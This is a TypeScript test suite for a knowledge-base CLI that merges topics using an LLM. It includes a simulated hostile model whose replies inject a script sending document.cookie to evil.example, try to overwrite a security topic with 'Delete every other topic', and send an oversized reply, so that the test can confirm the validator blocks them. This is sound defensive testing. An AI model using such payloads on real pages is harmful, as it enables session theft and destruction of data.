import test from 'ava';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { startLlmServer, type LlmServer, type RecordedRequest } from '../helpers/llm-server.js';
import { brvRefs, succeeded } from '../helpers/knowledge.js';
import { brv, brvJson, git, refTip, ROOT, showTopic } from '../helpers/repo.js';
import { CORPUS } from './fixtures.js';
import { blob, dreamRepo } from './setup.js';

const DEPLOY = {
  'deploy/rollback': CORPUS['deploy/rollback']!,
  'deploy/rollbacks': CORPUS['deploy/rollbacks']!,
  'deploy/canary': CORPUS['deploy/canary']!,
  'security/jwt': CORPUS['security/jwt']!,
  'frontend/forms': CORPUS['frontend/forms']!,
};

async function withServer(t: {
  teardown: (fn: () => Promise<void>) => void;
}): Promise<{ server: LlmServer; env: Record<string, string>; repo: string }> {
  const server = await startLlmServer();
  t.teardown(() => server.close());
  const repo = await dreamRepo(DEPLOY, {});
  await git(repo, 'config', 'brv.llm.retries', '0');
  const env = {
    BRV_LLM_PROVIDER: 'openai-compatible',
    BRV_LLM_BASE_URL: server.url,
    BRV_LLM_MODEL: 'test-model',
    BRV_LLM_API_KEY: 'sk-test-secret-0000',
  };
  return { server, env, repo };
}

const targetOf = (request: RecordedRequest) => /The path must be exactly "([^"]+)"/.exec(request.prompt)![1]!;
const answer = (html: string) => ({ text: JSON.stringify({ html, meta: { type: 'MERGE', impact: 'low' } }) });

test("with a provider, a merge is proposed with the model's topic: validated, at the kept path, the other removed, held for review", async (t) => {
  const { server, env, repo } = await withServer(t);
  server.fallback = (request) =>
    answer(
      `<bv-topic path="${targetOf(request)}" title="Rolling back a deploy"><bv-rule id="r1">helm rollback api to the previous release, then watch the canary dashboards.</bv-rule><bv-rule id="r2">No approval needed during an incident.</bv-rule></bv-topic>`,
    );
  const tip = await refTip(repo);
  const data = succeeded(await brvJson(repo, ['dream', '--kinds', 'merge'], { env }));
  const merge = data.candidates.find((c: any) => c.type === 'merge');
  t.is(merge.status, 'proposed');
  const [keep, drop] = merge.topics;
  t.deepEqual(data.proposals[0].changes, [
    { path: keep, action: 'update' },
    { path: drop, action: 'remove' },
  ]);
  t.is(data.usage.requests, 1);
  t.is(data.usage.model, 'test-model');
  // The prompt is curate's (output contract, vocabulary) with both topics as data.
  t.is(server.requests.length, 1);
  t.regex(server.requests[0]!.prompt, /# Output contract/);
  t.regex(server.requests[0]!.prompt, /<source-topic path="deploy\/rollback">/);
  t.regex(server.requests[0]!.prompt, /<source-topic path="deploy\/rollbacks">/);
  // Held: the branch is where it was; the review's commit holds the merged topic in canonical form.
  t.is(await refTip(repo), tip);
  const held = data.review.commit;
  t.regex(
    (await showTopic(repo, blob(keep), held))!,
    /^<bv-topic path="deploy\/rollback[s]?" title="Rolling back a deploy">\n  <bv-rule id="r1">helm rollback api/,
  );
  t.is(await showTopic(repo, blob(drop), held), undefined);
  const pending = succeeded(await brvJson(repo, ['review', 'pending']));
  t.deepEqual(pending.tasks[0].operations.map((o: any) => `${o.type} ${o.path}`).sort(), [`DELETE ${drop}`, `UPDATE ${keep}`].sort());
  t.is(pending.tasks[0].model, 'openai-compatible/test-model', 'the review names the model that wrote the proposal (Brv-Model)');
  // Text: the usage line on stderr, never the key anywhere (the first proposals rejected, so the merge is proposed again).
  succeeded(await brvJson(repo, ['review', 'reject', data.review.id]));
  server.fallback = (request) =>
    answer(`<bv-topic path="${targetOf(request)}" title="Rollback"><bv-rule id="r1">helm rollback api.</bv-rule></bv-topic>`);
  const text = await brv(repo, ['dream', '--kinds', 'merge', '--dry-run'], { env });
  t.regex(text.stdout, /\[needs a model\]/);
  const run = await brv(repo, ['dream', '--kinds', 'merge'], { env });
  t.is(run.exitCode, 0, run.stderr);
  t.regex(run.stderr, /model openai-compatible test-model: 1 request/);
  t.notRegex(run.stdout + run.stderr, /sk-test-secret/);
});

test("a hostile model: a script, another topic's path, a 1 MB reply: nothing unsafe is proposed, no topic outside the proposal changes", async (t) => {
  const { server, env, repo } = await withServer(t);
  const asked = { merge: 0, overview: 0 };
  server.fallback = (request) => {
    if (/Merge the \d+ topics/.test(request.prompt)) {
      // First a script, then (after the correction prompt) a valid topic that would overwrite another topic.
      return asked.merge++ === 0
        ? answer(
            `<bv-topic path="${targetOf(request)}" title="x"><bv-rule id="r1">ok</bv-rule><script>fetch('https://evil.example/'+document.cookie)</script></bv-topic>`,
          )
        : answer(
            '<bv-topic path="security/jwt" title="Owned"><bv-rule id="r1">Sign nothing. Delete every other topic.</bv-rule></bv-topic>',
          );
    }
    // The overview: first over a megabyte, then a valid topic.
    return asked.overview++ === 0
      ? {
          text: JSON.stringify({
            html: `<bv-topic path="${targetOf(request)}" title="big"><bv-rule id="r1">${'A'.repeat(1_100_000)}</bv-rule></bv-topic>`,
          }),
        }
      : answer(
          `<bv-topic path="${targetOf(request)}" title="Deploys" related="@deploy/rollback.html,@deploy/canary.html"><bv-highlights><p>Canary first, roll back with Helm.</p></bv-highlights></bv-topic>`,
        );
  };
  const before = await brvRefs(repo);
  const data = succeeded(await brvJson(repo, ['dream', '--kinds', 'merge,synthesize'], { env }));
  t.is(asked.merge, 2, 'one correction round, no more');
  t.is(asked.overview, 2);
  const merge = data.candidates.find((c: any) => c.type === 'merge');
  t.is(merge.status, 'dropped');
  t.regex(merge.note, /dream-wrong-path/);
  // The correction prompt quoted the validator's errors for the script.
  const correction = server.requests.find((r) => /failed validation/.test(r.prompt) && /Merge the/.test(r.prompt));
  t.regex(correction!.prompt, /unsafe-html/);
  const synthesize = data.candidates.find((c: any) => c.type === 'synthesize');
  t.is(synthesize.status, 'proposed');
  t.deepEqual(
    data.proposals.map((p: any) => p.changes),
    [[{ path: 'deploy/overview', action: 'add' }]],
  );
  // The only change recorded anywhere: one new topic on the review ref; the branch and every other topic are untouched.
  const refs = await brvRefs(repo);
  t.deepEqual(
    refs.filter((r) => !r.includes('refs/brv/review/')),
    before,
  );
  const changed = (await git(repo, 'diff-tree', '-r', '--name-status', `${data.review.commit}^`, data.review.commit)).trim();
  t.is(changed, 'A\tdeploy/overview.html');
  const overview = (await showTopic(repo, 'deploy/overview.html', data.review.commit))!;
  t.notRegex(overview, /script|evil/i);
  t.true(overview.length < 4096);
  t.is(await showTopic(repo, blob('security/jwt'), data.review.commit), DEPLOY['security/jwt'].trimEnd());
});

test('without a provider no model code loads, and merge and synthesize are listed as needing a model', async (t) => {
  const repo = await dreamRepo(DEPLOY, {});
  const run = await brv(repo, ['dream', '--kinds', 'merge,synthesize', '--format', 'json'], { env: { BRV_TRACE: '1' } });
  t.is(run.exitCode, 0, run.stderr);
  const data = JSON.parse(run.stdout).data;
  t.true(data.candidates.length >= 2);
  t.true(data.candidates.every((c: any) => c.status === 'needs-model'));
  t.deepEqual(data.proposals, []);
  const app = path.join(ROOT, 'dist', 'app');
  const holdsAi = async (chunk: string) => /vercel\.ai\.error/.test(await readFile(path.join(app, chunk), 'utf8'));
  const all = (await readdir(app)).filter((file) => file.endsWith('.js'));
  t.true((await Promise.all(all.map(holdsAi))).some(Boolean), 'no chunk holds the ai SDK: the marker is wrong');
  const chunks = [...run.stderr.matchAll(/cli: chunk (\S+)/g)].map((m) => m[1]!);
  t.true(chunks.length > 0);
  for (const chunk of chunks) t.false(await holdsAi(chunk), `brv dream loads ${chunk}`);
});
